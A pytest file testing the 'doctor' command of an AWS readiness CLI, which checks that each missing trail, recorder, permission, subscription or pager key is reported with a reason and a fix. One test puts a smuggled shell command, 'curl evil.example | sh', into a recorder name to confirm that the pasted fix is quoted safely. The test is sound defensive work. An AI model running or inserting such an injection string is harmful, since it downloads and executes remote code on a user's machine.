"""`doctor`: each thing that keeps Readiness from seeing, judging or telling is a line with a cure."""

from __future__ import annotations

import pytest

from readiness.model.unreadable import Cause, Unreadable
from readiness_cli.doctor import account, deployment, paging, permissions
from readiness_cli.doctor.check import State, unanswered
from tests.accounts.audit import recorder, recorder_status
from tests.cli.doctored import (
    MACHINE,
    WITHOUT_FUNCTION,
    depth,
    described,
    held,
    lines,
    listed,
    manifest,
    no_stack,
    of,
    recording,
    rows,
    simulated,
    subscribed,
    swept,
    triggered,
    world,
)
from tests.fake_account import FAULTS, NOON


def test_a_stack_in_order_has_only_lines_that_are_ok(run, over):
    over(world())
    said = run("doctor", "-o", "json")
    assert said.exit_code == 0, said.output
    assert {line["state"] for line in lines(said)} == {"ok"}
    checks = (*account.CHECKS, *permissions.CHECKS, *deployment.CHECKS, *paging.CHECKS)
    assert {line["check"] for line in lines(said)} >= {check.name for check in checks}


def test_before_a_deployment_only_the_account_is_checked(run, over):
    over(world(cloudformation__describe_stacks=no_stack))
    said = run("doctor", "-o", "json")
    assert said.exit_code == 0, said.output
    assert "only the account is checked" in said.stderr
    assert [line["check"] for line in lines(said)] == [
        "credentials",
        "sdk",
        "services",
        "trail",
        "recorder",
        "global events",
        "manifests",
        "permissions",
    ]


@pytest.mark.parametrize(
    ("check", "state", "seen", "fix", "more"),
    [
        pytest.param(
            "trail",
            "failed",
            "no trail records the management events",
            "create-trail",
            {"cloudtrail__describe_trails": {"trailList": []}},
            id="no trail",
        ),
        pytest.param(
            "trail",
            "failed",
            "is not logging",
            "start-logging",
            {"cloudtrail__get_trail_status": {"IsLogging": False}},
            id="a trail that was stopped",
        ),
        pytest.param(
            "trail",
            "unknown",
            "cloudtrail:GetTrailStatus was denied",
            "cloudtrail:GetTrailStatus",
            {"cloudtrail__get_trail_status": FAULTS["denied"]},
            id="a trail whose status is denied",
        ),
        pytest.param(
            "trail",
            "unknown",
            "has not delivered any events yet",
            "wait for its first delivery",
            {"cloudtrail__get_trail_status": {"IsLogging": True, "StartLoggingTime": NOON}},
            id="a trail that was started just now",
        ),
        pytest.param(
            "recorder",
            "warning",
            "no customer managed recorder",
            "config-recorder",
            {"config__describe_configuration_recorders": {"ConfigurationRecorders": []}},
            id="no recorder",
        ),
        pytest.param(
            "recorder",
            "warning",
            "the recorder default is stopped",
            "start-configuration-recorder",
            {"config__describe_configuration_recorder_status": recording(recording=False)},
            id="a recorder that was stopped",
        ),
        pytest.param(
            "recorder",
            "warning",
            "failed to record",
            "config-recorder",
            {"config__describe_configuration_recorder_status": recording(lastStatus="FAILURE")},
            id="a recorder that fails",
        ),
        pytest.param(
            "recorder",
            "warning",
            "leaves out AWS::KMS::Key",
            "config-recorder",
            {
                "config__describe_configuration_recorders": {
                    "ConfigurationRecorders": [
                        recorder(
                            recordingGroup={
                                "recordingStrategy": {"useOnly": "EXCLUSION_BY_RESOURCE_TYPES"},
                                "exclusionByResourceTypes": {"resourceTypes": ["AWS::KMS::Key"]},
                            }
                        )
                    ]
                }
            },
            id="a recorder that leaves out a type",
        ),
        pytest.param(
            "recorder",
            "unknown",
            "no status",
            "run it again",
            {
                "config__describe_configuration_recorder_status": {
                    "ConfigurationRecordersStatus": []
                }
            },
            id="a recorder without a status",
        ),
        pytest.param(
            "permissions",
            "failed",
            "encryption: IAM denies the roles of the stack s3:GetEncryptionConfiguration",
            '"s3:GetEncryptionConfiguration"',
            {"iam__simulate_principal_policy": simulated("s3:GetEncryptionConfiguration")},
            id="an SCP that denies the role a read",
        ),
        pytest.param(
            "headings",
            "warning",
            "no function for encryption",
            "sam deploy",
            {"cloudformation__list_stack_resources": listed(WITHOUT_FUNCTION)},
            id="a stack of another version",
        ),
        pytest.param(
            "stack",
            "warning",
            "UPDATE_ROLLBACK_COMPLETE",
            "describe-stack-events",
            {
                "cloudformation__describe_stacks": {
                    "Stacks": [
                        described()["Stacks"][0] | {"StackStatus": "UPDATE_ROLLBACK_COMPLETE"}
                    ]
                }
            },
            id="an update that was rolled back",
        ),
        pytest.param(
            "settings",
            "failed",
            "most_days",
            "sam deploy",
            {
                "ssm__get_parameter": {
                    "Parameter": {"Value": '{"encryption.kms-rotation": {"most_days": 1}}'}
                }
            },
            id="a setting out of its bounds",
        ),
        pytest.param(
            "settings",
            "failed",
            "no rule or heading 'encription.s3-kms'",
            "sam deploy",
            {"ssm__get_parameter": {"Parameter": {"Value": '{"encription.s3-kms": {}}'}}},
            id="a setting of a rule that does not exist",
        ),
        pytest.param(
            "settings",
            "failed",
            "not JSON",
            "sam deploy",
            {"ssm__get_parameter": {"Parameter": {"Value": "{"}}},
            id="settings that are no JSON",
        ),
        pytest.param(
            "events",
            "warning",
            "no event of API calls",
            "trail",
            {"cloudwatch__get_metric_data": triggered(ConfigItem=[2])},
            id="no API event in a day",
        ),
        pytest.param(
            "sweep",
            "warning",
            "no sweep has completed",
            MACHINE,
            {"dynamodb__query": rows()},
            id="before the first sweep",
        ),
        pytest.param(
            "sweep",
            "failed",
            "14 hours ago",
            MACHINE,
            {"dynamodb__query": rows(sweeps=[swept(14)])},
            id="a sweep that is overdue",
        ),
        pytest.param(
            "sweep",
            "failed",
            "the last sweep, 60 minutes ago, did not complete encryption",
            "logs",
            {"dynamodb__query": rows(sweeps=[swept(1, ["encryption"])])},
            id="a heading that does not complete",
        ),
        pytest.param(
            "alerts",
            "failed",
            "no confirmed subscription",
            "AlertEmail",
            {"sns__list_subscriptions_by_topic": subscribed(alerts=())},
            id="nobody listens",
        ),
        pytest.param(
            "alerts",
            "failed",
            "no confirmed subscription",
            "AlertEmail",
            {"sns__list_subscriptions_by_topic": subscribed(alerts=("Deleted",))},
            id="only a deleted subscription",
        ),
        pytest.param(
            "watcher",
            "failed",
            "no confirmed subscription",
            "WatcherEmail",
            {"sns__list_subscriptions_by_topic": subscribed(watcher=("PendingConfirmation",))},
            id="the watcher's mail was not confirmed",
        ),
        pytest.param(
            "manifests",
            "failed",
            "/readiness/manifest/agents cannot be used: owner: it must be text, not 7",
            "readiness manifest check FILE",
            {
                "ssm__get_parameters_by_path": {
                    "Parameters": [manifest("agents", owner=7), manifest("site")]
                }
            },
            id="a manifest that is refused",
        ),
        pytest.param(
            "pager",
            "failed",
            "no PagerDuty routing key",
            "readiness pagerduty-key",
            {"secretsmanager__describe_secret": {"Name": "s"}},
            id="no routing key",
        ),
        pytest.param(
            "quiet hours",
            "failed",
            "'Europe/Berlinn' is no time zone",
            "QuietTimeZone",
            {
                "cloudformation__describe_stacks": described(
                    QuietHours="22:00-07:00", QuietTimeZone="Europe/Berlinn"
                )
            },
            id="a time zone that does not exist",
        ),
        pytest.param(
            "routes",
            "failed",
            "'team=a' is not owner=",
            "PagerDutyRoutes",
            {"cloudformation__describe_stacks": described(PagerDutyRoutes='{"team=a": "b"}')},
            id="a route by what no finding has",
        ),
        pytest.param(
            "keys",
            "failed",
            "2 incidents cannot be resolved: the secret has no routing key 'payments'",
            "readiness pagerduty-key --name",
            {
                "dynamodb__query": rows(
                    sweeps=[swept(2)],
                    held=[
                        held(1, "no key: the secret has no routing key 'payments'"),
                        held(2, "no key: the secret has no routing key 'payments'"),
                        held(3, "quiet hours"),
                    ],
                )
            },
            id="a key that was taken away too early",
        ),
        pytest.param(
            "failure queues",
            "failed",
            "about 3 pages",
            "readiness redrive",
            {"sqs__get_queue_attributes": depth(UndeliveredPagesQueue=3)},
            id="pages that could not be delivered",
        ),
        pytest.param(
            "watcher's alarms",
            "failed",
            "SweepMissed-X is in ALARM",
            "describe-alarms",
            {
                "cloudwatch__describe_alarms": {
                    "MetricAlarms": [
                        {"AlarmName": "readiness-SweepMissed-X", "StateValue": "ALARM"},
                        {"AlarmName": "readiness-of-somebody-else", "StateValue": "ALARM"},
                    ]
                }
            },
            id="an alarm of the stack",
        ),
    ],
)
def test_what_is_wrong_is_a_line_with_its_reason_and_its_cure(
    run, over, check, state, seen, fix, more
):
    over(world(**more))
    said = run("doctor", "-o", "json")
    wrong = [line for line in lines(said) if line["state"] != "ok"]
    [line] = [line for line in wrong if line["check"] == check and seen in line["said"]]
    assert line["state"] == state
    assert fix in line["fix"]
    assert line["why"]
    assert said.exit_code == {"failed": 1, "unknown": 3, "warning": 0}[state]
    # What is about one thing leaves every other check as it was.
    assert {each["check"] for each in wrong} <= {check, "permissions"}


def test_an_answer_without_what_is_asked_for_is_unknown_and_never_ok(run, over):
    fake = over(world())
    run("doctor")
    may_be_empty = {
        ("cloudformation", "list_stack_resources"),  # no function of any heading: a warning
        ("cloudwatch", "describe_alarms"),
        ("config", "describe_configuration_recorders"),
        ("ssm", "get_parameters_by_path"),
    }
    first = {("sts", "get_caller_identity"), ("cloudformation", "describe_stacks")}
    for service, operation in set(fake.calls) - first - may_be_empty:
        over(world(**{f"{service}__{operation}": {}}))
        said = run("doctor", "-o", "json")
        assert said.exit_code in {1, 3}, (operation, said.output)
        assert len(lines(said)) > 10, operation


@pytest.mark.parametrize(
    ("cause", "fix"),
    [
        (Cause.NOT_OFFERED, "does not have the service"),
        (Cause.SDK_TOO_OLD, "upgrade botocore"),
        (Cause.TOKEN_REFUSED, "enable the region"),
    ],
)
def test_what_does_not_pass_by_itself_is_not_to_be_waited_for(cause, fix):
    assert fix in unanswered("recorder", Unreadable("config:DescribeX", cause)).fix


def test_a_command_to_paste_runs_nothing_else(run, over):
    """AWS Config takes any text as the name of a recorder."""
    name = "a; curl evil.example | sh"
    stopped = {"ConfigurationRecordersStatus": [recorder_status(name=name, recording=False)]}
    over(
        world(
            config__describe_configuration_recorders={
                "ConfigurationRecorders": [recorder(name=name)]
            },
            config__describe_configuration_recorder_status=stopped,
        )
    )
    [line] = of(run("doctor", "-o", "json"), "recorder")
    assert line["fix"].endswith(f" '{name}'")


def test_the_pasted_url_needs_no_key(run, over):
    url = described(PagerDutyIntegrationUrl="https://events.pagerduty.com/x")
    over(world(cloudformation__describe_stacks=url, secretsmanager__describe_secret={"Name": "s"}))
    [line] = of(run("doctor", "-o", "json"), "pager")
    assert line["state"] == "ok"


def test_commands_name_the_stack_that_is_meant(run, over):
    over(world(secretsmanager__describe_secret={"Name": "s"}))
    said = run("doctor", "--stack-name", "second", "-o", "json")
    [line] = of(said, "pager")
    assert line["fix"] == "readiness pagerduty-key --stack-name second"


def test_an_old_sdk_names_what_it_cannot_ask(run, over, monkeypatch):
    monkeypatch.setattr(account.sdk, "OLDEST", (99, 0, 0))
    over(world())
    [line] = of(run("doctor", "-o", "json"), "sdk")
    assert line["state"] == "warning"
    assert "99.0.0" in line["fix"]


def test_a_throttled_check_is_to_be_run_again():
    line = unanswered("trail", Unreadable("cloudtrail:DescribeTrails", Cause.THROTTLED))
    assert line.state is State.UNKNOWN
    assert "again" in line.fix


def test_the_table_is_readable_at_80_columns(run, over):
    over(world(secretsmanager__describe_secret={"Name": "s"}))
    said = run("doctor")
    assert max(map(len, said.stdout.splitlines())) <= 80
    assert "Fix: readiness pagerduty-key" in " ".join(said.stdout.split())
